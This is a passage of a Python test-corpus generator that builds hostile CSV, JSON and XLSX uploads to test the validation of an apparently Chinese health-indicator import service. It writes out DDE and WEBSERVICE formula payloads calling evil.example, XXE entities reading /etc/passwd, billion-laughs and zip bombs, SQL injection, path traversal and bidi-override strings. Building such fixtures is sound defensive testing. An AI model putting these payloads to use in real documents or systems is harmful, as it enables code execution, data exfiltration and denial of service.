          sheet("甲", _formula("cmd|' /C powershell -c iwr evil.example'!A0", "产出指标"), "数量指标", 5),
          fault="a DDE payload whose cached value is a plausible level", row=3, field="level1",
          transport="multipart")
    c.add("xlsx_formula_shared", "xlsx",
          _one_sheet([header, [_formula('"甲"&"乙"', "甲乙", extra=' t="shared" ref="A2:A3" si="0"'), "产出指标", "数量指标", 1],
                      [_formula("", "甲乙", extra=' t="shared" si="0"'), "产出指标", "质量指标", 2]]),
          fault="names from a shared formula", row=2, field="name", transport="multipart")
    c.add("xlsx_formula_array", "xlsx",
          sheet("甲", "产出指标", "数量指标", Raw('<c r="{ref}"><f t="array" ref="{ref}">SUM(1*2)</f><v>2</v></c>')),
          fault="a weight from an array formula", row=3, field="weight", transport="multipart")
    c.add("xlsx_formula_webservice", "xlsx",
          sheet("甲", "产出指标", _formula('WEBSERVICE("http://evil.example/?leak="&A2)', "数量指标"), 5),
          fault="=WEBSERVICE exfiltrating a neighbour cell", row=3, field="level2", transport="multipart")
    # In CSV a formula is plain text: it must fail where the text is no valid value, never run.
    c.add("csv_dde_in_code", "csv", _csv(_table({"指标编码": "=cmd|' /C calc'!A0"})),
          fault="a DDE payload where the code goes", row=3, field="code")
    c.add("csv_sum_in_weight", "csv", _csv(_table({"权重": "=SUM(A1:A9)"})),
          fault="=SUM where a weight number goes", row=3, field="weight")
    c.add("csv_hyperlink_in_date", "csv", _csv(_table({"生效日期": '=HYPERLINK("http://evil.example","2024-01-01")'})),
          fault="=HYPERLINK where a date goes", row=3, field="effective_from")
    c.add("csv_at_formula_in_kind", "csv", _csv(_table({"指标类型": "@SUM(1+1)*cmd|' /C calc'!A0"})),
          fault="an @-formula where the kind goes", row=3, field="kind")


def _bombs_and_broken_packages(c: _Corpus) -> None:
    laughs_sheet = _sheet_xml([["指标名称"], ["&lol9;"]], prolog=_LAUGHS).replace(b"&amp;lol9;", b"&lol9;")
    c.add("xlsx_billion_laughs_sheet", "xlsx", _xlsx([Sheet("指标", laughs_sheet)]),
          fault="billion-laughs entity expansion inside the sheet XML", transport="multipart", heavy=True)
    c.add("xlsx_billion_laughs_shared_strings", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([[Raw('<c r="{ref}" t="s"><v>0</v></c>')], [Raw('<c r="{ref}" t="s"><v>1</v></c>')]]))],
                shared_strings=_shared_strings(["指标名称", "&lol9;"], prolog=_LAUGHS)),
          fault="billion-laughs entity expansion inside sharedStrings.xml", transport="multipart", heavy=True)
    c.add("xlsx_quadratic_blowup", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([["指标名称"], ["&big;" * 20_000]],
                prolog=f'<!DOCTYPE w [<!ENTITY big "{"x" * 50_000}">]>').replace(b"&amp;big;", b"&big;"))]),
          fault="one 50 kB entity referenced 20,000 times (quadratic blow-up)", transport="multipart", heavy=True)
    c.add("xlsx_xxe_file", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml([["指标名称"], ["&xxe;"]], prolog='<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(b"&amp;xxe;", b"&xxe;"))]),
          fault="an external entity reading /etc/passwd (XXE)", transport="multipart")
    c.add("xlsx_xxe_in_workbook", "xlsx",
          _xlsx([Sheet("指标", _sheet_xml(_table({})))],
                workbook_xml=(f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://127.0.0.1:9/steal">]>'
                              f'<workbook xmlns="{_NS}" xmlns:r="{_REL_NS}"><sheets><sheet name="&x;" sheetId="1" r:id="rId1"/></sheets></workbook>').encode()),
          fault="an external entity (network) in workbook.xml", transport="multipart")
    c.add("xlsx_zip_bomb", "xlsx", _zip_bomb,
          fault="a sheet inflating from about 1 MB to 1 GiB", transport="multipart", heavy=True)
    c.add("xlsx_zip_bomb_lying_sizes", "xlsx", _lying_zip_bomb,
          fault="64 MiB of zeros declaring 4 KiB in the zip headers", transport="multipart", heavy=True)
    c.add("xlsx_declares_300mb", "xlsx", _lie_about_size(_valid_xlsx(), "xl/worksheets/sheet1.xml", 300 * MiB),
          fault="a small sheet declaring 300 MB uncompressed", transport="multipart")
    c.add("xlsx_20000_members", "xlsx", _later(_many_members), fault="a package of 20,000 zip members",
          transport="multipart", heavy=True)
    c.add("xlsx_oversized_raw", "xlsx", _valid_xlsx() + b"\0" * (2 * MiB),
          fault="an xlsx larger than the upload limit, raw body", status=413, upload_limit=SMALL_UPLOAD_LIMIT)
    c.add("xlsx_oversized_multipart", "xlsx", _valid_xlsx() + b"\xff" * (2 * MiB),
          fault="an xlsx larger than the upload limit, multipart", status=413, upload_limit=SMALL_UPLOAD_LIMIT,
          transport="multipart")
    c.add("csv_oversized_raw", "csv", _csv(_table({})) + b"\r\n" * MiB,
          fault="a CSV larger than the upload limit", status=413, upload_limit=SMALL_UPLOAD_LIMIT)
    c.add("xlsx_not_a_zip", "xlsx", _csv(_table({})), fault="a CSV renamed to .xlsx", transport="multipart")
    c.add("xlsx_not_a_zip_raw", "xlsx", b"PK\x03\x04 not really a zip archive",
          fault="the zip magic and then nothing of a zip")
    c.add("zip_not_xlsx", "xlsx", _zip({"readme.txt": b"hello", "data/table.csv": _csv(_table({}))}),
          fault="a zip of a text file and a CSV, named .xlsx", transport="multipart")
    c.add("zip_docx", "xlsx",
          _zip({"[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
                "word/document.xml": b"<document/>"}),
          fault="a Word document uploaded as a workbook", transport="multipart")
    c.add("zip_ods", "xlsx", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"}),
          fault="an OpenDocument spreadsheet named .xlsx", transport="multipart")
    valid = _valid_xlsx()
    c.add("xlsx_truncated_half", "xlsx", valid[: len(valid) // 2], fault="an xlsx cut in half",
          transport="multipart")
    c.add("xlsx_truncated_central_directory", "xlsx", valid[:-10],
          fault="an xlsx missing the end of its central directory", transport="multipart")
    c.add("xlsx_corrupt_deflate", "xlsx", _corrupt_deflate(valid), fault="flipped bytes inside the compressed sheet",
          transport="multipart")


def _sizes(c: _Corpus) -> None:
    data_rows = _million_rows(
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
        lambda r: f'<row r="{r}"><c r="A{r}" t="s"><v>2</v></c><c r="B{r}"><v>{r % 100}</v></c></row>',
    )
    blank_rows = _million_rows(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', lambda r: f'<row r="{r}"><c r="A{r}" t="s"><v>3</v></c></row>'
    )
    strings = _shared_strings(_MILLION_STRINGS)
    c.add("xlsx_million_rows", "xlsx",
          lambda out: _package(out, [Sheet("指标", data_rows)], shared_strings=strings, compresslevel=1),
          fault="a sheet of a million data rows", transport="multipart", heavy=True)
    c.add("xlsx_million_blank_rows", "xlsx",
          lambda out: _package(out, [Sheet("指标", blank_rows)], shared_strings=strings, compresslevel=1),
          fault="a header and a million rows of blank strings", transport="multipart", heavy=True)
    c.add("csv_million_rows", "csv", _lines(lambda i: f"指标{i},{i % 100}\r\n", 1_000_000, head="指标名称,权重\r\n"),
          fault="a CSV of a million rows", heavy=True)
    c.add("ndjson_million_lines", "jsonl", _lines(lambda i: f'{{"name":"指标{i}"}}\n', 1_000_000),
          fault="NDJSON of a million lines", heavy=True)
    c.add("json_ten_million_empty_objects", "json", _json_flood(10_000_000),
          fault="30 MB of {} elements: ten million objects if parsed at once", heavy=True)
    c.add("csv_million_blank_lines", "csv", b"\r\n" * 1_000_000, fault="a million empty lines", heavy=True)
    c.add("csv_only_delimiters", "csv", b",,,,,\r\n" * 200_000, fault="200,000 lines of bare delimiters")
    c.add("csv_10mb_cell", "csv", _big_cell_csv(10 * MiB), fault="one 10 MB cell in row 2", row=2,
          field="definition", heavy=True)
    c.add("json_10mb_cell", "json", _later(lambda: _json(_records({"definition": "x" * (10 * MiB)}, good_rows=0))),
          fault="one 10 MB string in row 1", row=1, field="definition", heavy=True)
    c.add("json_10mb_key", "json", _later(lambda: b'[{"name": "a", "' + b"k" * (10 * MiB) + b'": 1}]'),
          fault="a 10 MB unknown key (must not be echoed back whole)", row=1, heavy=True)
    c.add("ndjson_10mb_cell", "jsonl", _later(lambda: _ndjson(_records({"notes": "备" * (10 * MiB // 3)}))),
          fault="one 10 MB string in line 2", row=2, field="notes", heavy=True)
    c.add("xlsx_10mb_cell", "xlsx", _later(lambda: _one_sheet([["指标名称", "指标解释"], ["甲", _noise(10 * MiB)]])),
          fault="one 10 MB inline string in row 2", row=2, field="definition", transport="multipart", heavy=True)
    c.add("csv_10mb_header", "csv", _later(lambda: b"\xe6\x8c\x87" * (10 * MiB // 3) + b"\r\n\xe7\x94\xb2\r\n"),
          fault="a 10 MB header line without a delimiter", row=1, heavy=True)
    c.add("csv_10k_char_name", "csv", _csv(_table({"指标名称": "长" * 10_000})),
          fault="a 10,000-character name", row=3, field="name")
    c.add("json_10k_char_name", "json", _json(_records({"name": "長" * 10_000}, good_rows=0)),
          fault="a 10,000-character name", row=1, field="name")
    c.add("xlsx_10k_char_name", "xlsx", _openpyxl_xlsx(_table({"指标名称": "名" * 10_000})),
          fault="a 10,000-character name", row=3, field="name", transport="multipart")
    c.add("csv_sector_too_long", "csv", _csv(_table({"行业领域": "卫生" * 150})),
          fault="a 300-character sector", row=3, field="sector")
    c.add("csv_unit_too_long", "csv", _csv(_table({"计量单位": "人次" * 80})),
          fault="a 160-character unit", row=3, field="unit")


def _nul_and_invisible(c: _Corpus) -> None:
    c.add("csv_nul_name", "csv", _csv(_table({"指标名称": "\0\0\0"})),
          fault="a name of NUL bytes", row=3, field="name")
    c.add("csv_nul_padding", "csv", _csv(_table({})[:1]) + b"\0" * MiB,
          fault="a header followed by a megabyte of NUL padding")
    c.add("csv_nul_in_code", "csv", _csv(_table({"指标编码": "HOSTILE\0/../etc"})),
          fault="a code with a NUL byte and a path", row=3, field="code")
    c.add("json_raw_nul_in_string", "json", b'[{"name": "\xe7\x94\xb2\x00\xe4\xb9\x99"}]',
          fault="a raw NUL byte inside a JSON string", row=1)
    c.add("json_escaped_nul_name", "json", _json(_records({"name": "\u0000\u0000"}, good_rows=0)),
          fault="a name of escaped NULs", row=1, field="name")
    c.add("ndjson_nul_line", "jsonl", _ndjson(_records({})[:1]) + b"\0\0\0\0\n" + _ndjson(_records({})[1:]),
          fault="an NDJSON line of NUL bytes", row=2)
    c.add("json_nul_between_tokens", "json", b'[{"name":\x00"a"}]', fault="a NUL between JSON tokens", row=1)
    c.add("csv_control_chars_name", "csv", _csv(_table({"指标名称": "\x01\x02\x03\x07\x08\x1b\x7f"})),
          fault="a name made of control characters", row=3, field="name")
    c.add("csv_rtl_override_name", "csv", _csv(_table({"指标名称": "\u202e\u202d\u2066\u2067\u2069\u200f"})),
          fault="a name made of bidi overrides and isolates (Trojan Source)", row=3, field="name")
    c.add("csv_rtl_override_code", "csv", _csv(_table({"指标编码": "HOSTILE-\u202eאבג\u202c001"})),
          fault="a code hiding Hebrew letters behind a right-to-left override", row=3, field="code")
    c.add("json_control_chars_name", "json", _json(_records({"name": "\u0085\u009b\u200b\u2060"}, good_rows=0)),
          fault="a name of C1 controls and zero-width characters", row=1, field="name")
    c.add("json_lone_surrogate", "json", b'[{"name": "\\udfff\\ud800", "level1": "\xe4\xba\xa7\xe5\x87\xba"}]',
          fault="a name of unpaired surrogates", row=1, field="name")
    c.add("json_lone_surrogate_key", "json", b'[{"name": "a", "\\udc00\\ud800": 1}]',
          fault="a key of unpaired surrogates (cannot be written back as UTF-8)", row=1)


def _duplicates_and_lifecycle(c: _Corpus) -> None:
    c.add("csv_duplicate_codes", "csv", _csv(_table({"指标编码": "HOSTILE-001"})),
          fault="two rows with the same code", row=3, field="code")
    c.add("json_duplicate_codes", "json", _json(_records({"code": "HOSTILE-001"})),
          fault="two JSON rows with the same code", row=2, field="code")
    c.add("xlsx_duplicate_codes", "xlsx", _openpyxl_xlsx(_table({"指标编码": "HOSTILE-001"}, good_rows=3)),
          fault="an xlsx whose row 5 repeats row 2's code", row=5, field="code", transport="multipart")
    c.add("ndjson_duplicate_seed_code", "jsonl",
          _ndjson([{"code": "WSJK-00001", "name": "甲"}, {"code": "WSJK-00001", "name": "乙"}]),
          fault="two lines revising the same existing indicator", row=2, field="code")
    c.add("csv_duplicate_natural_key", "csv",
          _csv([BASE_HEADER[1:], _table({})[1][1:], _table({})[1][1:]]),
          fault="two code-less rows describing the same indicator", row=3, field="name")
    cycle = [
        {"code": "WSJK-00001", "name": "建立预防接种证", "status": "被替代", "superseded_by": "WSJK-00002"},
        {"code": "WSJK-00002", "name": "适龄儿童疫苗接种率", "status": "被替代", "superseded_by": "WSJK-00001"},
    ]
    c.add("json_cyclic_supersession", "json", _json(cycle),
          fault="A superseded by B and B superseded by A", row=1, field="superseded_by")
    c.add("csv_cyclic_supersession", "csv",
          _csv([["指标编码", "指标名称", "状态", "superseded_by"], *[[r["code"], r["name"], r["status"], r["superseded_by"]] for r in cycle]]),
          fault="a supersession cycle in a superseded_by column", row=2, field="superseded_by")
    c.add("csv_self_supersession", "csv",
          _csv([["指标编码", "指标名称", "状态", "superseded_by"], ["WSJK-00003", "0-6岁儿童健康管理数", "已替代", "WSJK-00003"]]),
          fault="an indicator superseded by itself", row=2, field="superseded_by")
    c.add("ndjson_superseded_without_successor", "jsonl",
          _ndjson([{"code": "WSJK-00001", "name": "建立预防接种证", "status": "superseded"},
                   {"code": "WSJK-00002", "name": "适龄儿童疫苗接种率", "status": "superseded"}]),
          fault="two standard indicators marked superseded, neither naming its successor", row=1, field="superseded_by")
    c.add("csv_new_indicator_superseded", "csv", _csv(_table({"状态": "被替代"}, good_rows=0)),
          fault="a new indicator superseded without naming its successor", row=2, field="superseded_by")
    c.add("csv_standard_back_to_draft", "csv", _csv([["指标编码", "指标名称", "状态"], ["WSJK-00001", "建立预防接种证", "草稿"]]),
          fault="an existing standard indicator moved back to draft", row=2, field="status")


def _json_shapes(c: _Corpus) -> None:
    c.add("json_trailing_comma", "json", b'[{"name": "a"},]', fault="a trailing comma", row=2)
    c.add("json_truncated", "json", b'[{"code": "HOSTILE-001", "name": "a"}, {"code": "HOSTILE-002", "na',
          fault="JSON cut short inside the second element", row=2)
    c.add("json_missing_comma", "json", b'[{"name": "a"} {"name": "b"}]', fault="two elements without a comma", row=1)
    c.add("json_huge_integer", "json", b'[{"name": "a", "weight": 1' + b"0" * 5000 + b"}]",
          fault="a 5,001-digit integer weight (past Python's int-parsing limit)", row=1, field="weight")
    c.add("json_object_wrapper", "json", _json({"indicators": _records({})}),
          fault='the rows wrapped in {"indicators": [...]}', row=1, field="indicators")
    c.add("json_nested_arrays", "json", _json([_records({})]), fault="an array of arrays of rows", row=1)
    c.add("json_top_level_string", "json", b'"\xe6\x8c\x87\xe6\xa0\x87"', fault="a JSON string, not rows")
    c.add("json_top_level_number", "json", b"42", fault="a JSON number, not rows")
    c.add("json_top_level_null", "json", b"null", fault="JSON null")
    c.add("json_name_list_of_numbers", "json", _json(_records({"name": [1, 2, 3]}, good_rows=0)),
          fault="a list of numbers as the name", row=1, field="name")
    c.add("json_name_object", "json", _json(_records({"name": {"zh": "甲", "en": "A"}}, good_rows=0)),
          fault="an object as the name", row=1, field="name")
    c.add("json_name_overflowing_number", "json", b'[{"name": 1e999}]',
          fault="a number that overflows to infinity as the name", row=1, field="name")
    c.add("json_weight_bool", "json", _json(_records({"weight": True}, good_rows=0)),
          fault="true as a weight", row=1, field="weight")
    c.add("json_deeply_nested_arrays", "json", b"[" * 200_000 + b"]" * 200_000,
          fault="200,000 nested arrays (recursion)", heavy=True)
    c.add("json_deeply_nested_value", "json", b'[{"name": "a", "notes": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"}]",
          fault="a value nested 100,000 objects deep", row=1, heavy=True)
    c.add("ndjson_deeply_nested_line", "jsonl", _ndjson(_records({})[:1]) + b"[" * 100_000 + b"]" * 100_000 + b"\n",
          fault="NDJSON whose line 2 nests 100,000 arrays", row=2, heavy=True)
    c.add("ndjson_one_bad_line", "jsonl", _ndjson(_records({}, good_rows=3)[:2]) + b'{"name": "broken",\n' + _ndjson(_records({}, good_rows=3)[3:]),
          fault="NDJSON with one truncated line among good ones", row=3)
    c.add("ndjson_array_line", "jsonl", _ndjson(_records({})[:1]) + b'["name", "a"]\n', fault="an NDJSON line that is an array", row=2)
    c.add("ndjson_pretty_printed", "jsonl", json.dumps(_records({}), indent=2, ensure_ascii=False).encode(),
          fault="a pretty-printed JSON array sent as NDJSON", row=1)
    c.add("json_empty_body", "json", b"", fault="an empty body")
    c.add("json_whitespace_only", "json", b" \r\n\t \n", fault="whitespace only")
    c.add("json_single_quotes", "json", b"[{'name': 'a'}]", fault="JavaScript-style single quotes", row=1)
    c.add("json_comments", "json", b'[// rows\n{"name": "a"}]', fault="comments in JSON", row=1)


def _values(c: _Corpus) -> None:
    c.add("csv_weight_negative", "csv", _csv(_table({"权重": "-1"})), fault="a negative weight", row=3, field="weight")
    c.add("csv_weight_1e308", "csv", _csv(_table({"权重": "1e308"})), fault="a weight of 1e308", row=3, field="weight")
    c.add("csv_weight_nan", "csv", _csv(_table({"权重": "NaN"})), fault="a weight of NaN", row=3, field="weight")
    c.add("csv_weight_infinity", "csv", _csv(_table({"权重": "Infinity"})), fault="an infinite weight", row=3, field="weight")
    c.add("csv_weight_1001", "csv", _csv(_table({"权重": "1001"})), fault="a weight above 1000", row=3, field="weight")
    c.add("csv_weight_5000_digits", "csv", _csv(_table({"权重": "9" * 5000})), fault="a 5,000-digit weight", row=3, field="weight")
    c.add("csv_weight_text", "csv", _csv(_table({"权重": "很多"})), fault="a weight in words", row=3, field="weight")
    c.add("json_weight_nan_literal", "json", b'[{"name": "\xe7\x94\xb2", "weight": NaN}]',
          fault="a bare NaN literal (not JSON) as weight", row=1, field="weight")
    c.add("json_weight_infinity_literal", "json", b'[{"name": "\xe7\x94\xb2", "weight": Infinity}]',
          fault="a bare Infinity literal as weight", row=1, field="weight")
    c.add("ndjson_value_negative_infinity", "jsonl", b'{"name": "\xe7\x94\xb2", "value": -Infinity}\n',
          fault="-Infinity as the value", row=1, field="value")
    c.add("json_weight_overflow_exponent", "json", b'[{"name": "\xe7\x94\xb2", "weight": 1e400}]',
          fault="a weight overflowing to infinity", row=1, field="weight")
    c.add("csv_date_feb_30", "csv", _csv(_table({"生效日期": "2023-02-30"})), fault="30 February", row=3, field="effective_from")
    c.add("csv_date_words", "csv", _csv(_table({"失效日期": "明年年底"})), fault="a date in words", row=3, field="expires_on")
    c.add("csv_date_year_99999", "csv", _csv(_table({"生效日期": "99999-01-01"})), fault="year 99999", row=3, field="effective_from")
    c.add("csv_date_month_13", "csv", _csv(_table({"生效日期": "2024年13月1日"})), fault="month 13", row=3, field="effective_from")
    c.add("csv_expires_before_effective", "csv", _csv(_table({"生效日期": "2024-06-01", "失效日期": "2023-01-01"})),
          fault="an indicator that expires before it starts", row=3, field="expires_on")
    c.add("csv_unknown_kind", "csv", _csv(_table({"指标类型": "神秘指标"})), fault="an unknown kind", row=3, field="kind")
    c.add("csv_unknown_comparator", "csv", _csv(_table({"指标性质": "≈≈≥"})), fault="an unknown comparator", row=3, field="comparator")
    c.add("csv_unknown_status", "csv", _csv(_table({"状态": "作废中"})), fault="an unknown status", row=3, field="status")
    c.add("csv_unknown_horizon", "csv", _csv(_table({"指标期限": "永久"})), fault="an unknown horizon", row=3, field="horizon")
    c.add("csv_unknown_direction", "csv", _csv(_table({"指标方向": "斜向"})), fault="an unknown direction", row=3, field="direction")
    c.add("csv_is_core_maybe", "csv", _csv(_table({"核心指标": "也许"})), fault="is_core neither yes nor no", row=3, field="is_core")
    c.add("csv_comparator_needs_number", "csv", _csv(_table({"指标值": "很多", "指标性质": "≥"})),
          fault="comparator ≥ with a value in words", row=3, field="value")
    c.add("csv_code_path_traversal", "csv", _csv(_table({"指标编码": "../../etc/passwd"})),
          fault="a path as the code", row=3, field="code")
    c.add("csv_code_65_chars", "csv", _csv(_table({"指标编码": "A" * 65})), fault="a 65-character code", row=3, field="code")
    c.add("csv_code_sql", "csv", _csv(_table({"指标编码": "X'; DROP TABLE indicator;--"})),
          fault="SQL where the code goes", row=3, field="code")


def _csv_structure(c: _Corpus) -> None:
    header = ",".join(BASE_HEADER)
    c.add("csv_mixed_delimiters", "csv", (header + "\r\n" + ";".join(_table({})[1]) + "\r\n").encode(),
          fault="a comma header over semicolon rows: the whole row lands in one cell", row=2)
    c.add("csv_mixed_tab_comma", "csv", ("\t".join(BASE_HEADER) + "\r\n" + ",".join(_table({})[1]) + "\r\n").encode(),
          fault="a tab header over comma rows", row=2)
    c.add("csv_unbalanced_quote", "csv",
          (header + '\r\nHOSTILE-001,"乡镇卫生院门诊人次,产出指标,数量指标,≥5000人次,卫生健康\r\n'
           + "\r\n".join(",".join(r) for r in _table({}, good_rows=3)[2:]) + "\r\n").encode(),
          fault="an opening quote that never closes: every later row would vanish into one cell", row=2)
    c.add("csv_mixed_delimiters_no_code", "csv",
          ("指标名称,一级指标,二级指标,指标值\r\n乡镇卫生院门诊人次;产出指标;数量指标;≥5000人次\r\n").encode(),
          fault="a comma header over a semicolon row without a code column to trip on", row=2)
    c.add("csv_text_after_closing_quote", "csv", (header + '\r\nHOSTILE-001,"乡镇卫生院"门诊人次,产出指标\r\n').encode(),
          fault="text after a closing quote", row=2)
    c.add("csv_repeated_header_row", "csv", _csv(_table({}) + _table({})),
          fault="two exports concatenated: the second header is read as a data row", row=4)


def _formats(c: _Corpus) -> None:
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0" * 64
    c.add("png_image", "bin", png, fault="a PNG image", status=415, content_type="image/png")
    c.add("unknown_binary", "bin", bytes(b for b in range(256) if b not in b"\t\n\r,;") * 4,
          fault="binary without a type, a name or any delimiter", status=415,
          content_type=None)
    c.add("legacy_xls", "xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2048,
          fault="a legacy .xls (OLE2) workbook", status=415, content_type="application/vnd.ms-excel",
          transport="multipart")
    c.add("pdf_as_csv", "csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n" + bytes(range(128, 256)) * 8,
          fault="a PDF sent as text/csv")
    c.add("html_as_json", "json", b"<html><body>502 Bad Gateway</body></html>",
          fault="an HTML error page sent as JSON")
    c.add("gzip_csv", "csv", _gzip(_csv(_table({}))), fault="a gzip-compressed CSV sent as text/csv")
    c.add("multipart_without_file", "csv", _csv(_table({"权重": "5"})), fault="a multipart form whose part is not named file",
          field="file", transport="multipart-without-file")


def _gzip(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    return compressor.compress(data) + compressor.flush()


def main(argv: Sequence[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hostile.corpus OUT_DIR", file=sys.stderr)
        return 2
    out_dir = Path(argv[0])
    cases = generate(out_dir)
    (out_dir / "manifest.json").write_text(
        json.dumps([asdict(case) for case in cases], ensure_ascii=False, indent=2), encoding="utf-8"
    )
    print(f"{len(cases)} hostile files in {out_dir}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
